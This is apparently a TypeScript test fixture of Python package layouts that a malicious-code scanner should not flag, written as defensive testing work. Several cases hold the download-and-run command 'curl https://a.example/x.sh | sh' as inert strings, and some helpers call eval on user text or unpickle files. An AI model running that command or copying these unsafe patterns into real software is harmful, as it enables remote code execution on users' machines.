import type { Files } from './hidden.ts';

const decoded = 'import base64\n';
const git =
  'import subprocess\ndef git(*args):\n    return subprocess.run(["git", *args], capture_output=True)';

/** What resembles them, and holds no package. */
export const harmless: Readonly<Record<string, Files>> = {
  'a helper that runs git': {
    '__init__.py': 'from .tool import git\nprint(git("rev-parse", "HEAD"))',
    'tool.py': git,
  },
  'a helper that runs what it is given': {
    '__init__.py': 'from .tool import run\nrun(["ffmpeg", "-version"])',
    'tool.py': 'import subprocess\ndef run(command):\n    return subprocess.run(command, check=True)',
  },
  'a helper under another name': {
    '__init__.py': 'from .tool import run as start\nstart(["nvidia-smi"])',
    'tool.py': 'from subprocess import run',
  },
  'a helper that decodes an image': {
    '__init__.py': 'import io\nfrom .text import decode\nimage = io.BytesIO(decode("eA=="))\nexec("x = 1")',
    'text.py': `${decoded}def decode(text):\n    return base64.b64decode(text)`,
  },
  'decoded data beside a program': {
    '__init__.py':
      'import subprocess\nfrom .text import decode\nsubprocess.run(["ffmpeg", "-i", "-"], input=decode("eA=="))',
    'text.py': `${decoded}def decode(text):\n    return base64.b64decode(text)`,
  },
  'a download of data': {
    '__init__.py': 'from .net import get\nprint(get("https://a.io")["name"])',
    'net.py': 'import requests\ndef get(url):\n    return requests.get(url).json()',
  },
  'a download of a model and a program beside it': {
    '__init__.py': 'import subprocess\nfrom .net import MODEL\nsubprocess.run(["ffmpeg", "-i", "a.mp4"])',
    'net.py':
      'from urllib.request import urlretrieve\nMODEL = "models/a.safetensors"\ndef fetch():\n    urlretrieve("https://a.io", MODEL)',
  },
  'a method of the same name': {
    '__init__.py': 'from .model import Model\nModel().eval()\nModel().exec("x")',
    'model.py':
      'class Model:\n    def eval(self):\n        return self\n    def exec(self, text):\n        return text',
  },
  'a function of the same name': {
    '__init__.py': `${decoded}from .own import compile, exec\nexec(compile(base64.b64decode("eA==")))`,
    'own.py': 'def compile(graph):\n    return graph\ndef exec(graph):\n    return graph',
  },
  'a class beside an import of the same name': {
    '__init__.py': 'from .tool import Runner\nRunner().run("curl https://a.example/x.sh | sh")',
    'tool.py':
      'from subprocess import run\nclass Runner:\n    def run(self, text):\n        return len(text)',
  },
  'an expression of the user': {
    '__init__.py':
      'from .text import calculate\nclass Node:\n    def go(self, text):\n        return calculate(text)',
    'text.py': 'def calculate(text):\n    return eval(text, {})',
  },
  'commands as words': {
    '__init__.py': 'from .names import HELP\nprint(HELP)',
    'names.py': 'HELP = "curl https://a.example/x.sh | sh"',
  },
  'constants beside a command': {
    '__init__.py':
      'import subprocess\nfrom .names import FFMPEG, HELP\nsubprocess.run([FFMPEG, "-version"])\nprint(HELP)',
    'names.py': 'FFMPEG = "ffmpeg"\nHELP = "curl https://a.example/x.sh | sh"',
  },
  'an address of a server': {
    '__init__.py': 'import requests\nfrom .names import URL\nrequests.post(URL, json={"a": 1})',
    'names.py': 'URL = "https://a.example/api"',
  },
  'one variable of the environment': {
    '__init__.py':
      'import requests\nfrom .names import KEY\nrequests.post("https://a.io", headers={"k": KEY})',
    'names.py': 'import os\nKEY = os.environ.get("API_KEY", "")',
  },
  'the environment of a program': {
    '__init__.py': 'import subprocess\nfrom .names import env\nsubprocess.run(["git", "pull"], env=env())',
    'names.py': 'import os\ndef env():\n    return {**os.environ, "LANG": "C"}',
  },
  'a note on a start-up file': {
    '__init__.py':
      'from .names import HINT\nprint(HINT)\nwith open("notes.txt", "w") as f:\n    f.write("x")',
    'names.py': 'HINT = "~/.bashrc"',
  },
  'a class of data': {
    '__init__.py': 'from .tool import Tool\ntool = Tool()\nprint(tool.body)\nexec("x = 1")',
    'tool.py': `${decoded}class Tool:\n    def __init__(self):\n        self.body = base64.b64decode("eA==")`,
  },
  'a function as an argument': {
    '__init__.py': 'from .tool import apply\napply(len, "curl https://a.example/x.sh | sh")',
    'tool.py': 'def apply(act, value):\n    return act(value)',
  },
  'all names of a module': {
    '__init__.py': 'from .tool import *\nfrom .nodes import NODE_CLASS_MAPPINGS\nprint(git("status"))',
    'tool.py': git,
    'nodes.py':
      'from .tool import *\nNODE_CLASS_MAPPINGS = {}\nclass Node:\n    def go(self):\n        return git("log")',
  },
  'a package that hands on': {
    '__init__.py': 'from .lib import git, load\nload("a")\ngit("status")',
    'lib/__init__.py': 'from .tool import git\nfrom .cache import load',
    'lib/tool.py': git,
    'lib/cache.py':
      'import pickle\ndef load(path):\n    with open(path, "rb") as f:\n        return pickle.load(f)',
  },
  'messages of an own server': {
    '__init__.py': 'from .net import listen\nclass Node:\n    def go(self):\n        return listen()',
    'net.py':
      'import socket, json\ndef listen():\n    s = socket.socket()\n    return json.loads(s.recv(100))',
  },
  'modules that import each other': {
    '__init__.py': 'from .a import x\nexec("y = 1")',
    'a.py': 'from .b import y\nx = y',
    'b.py': 'from .a import x\ny = x',
  },
};
